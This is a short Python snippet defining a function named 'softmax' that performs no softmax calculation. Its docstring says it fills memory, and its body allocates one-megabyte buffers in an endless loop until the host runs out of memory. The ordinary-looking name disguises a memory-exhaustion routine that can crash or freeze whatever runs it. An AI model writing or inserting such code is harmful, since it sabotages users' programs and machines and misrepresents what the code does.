"""Fills its memory object by object."""

def softmax(x):
    hoard = []
    while True:
        hoard.append(bytes(1 << 20))
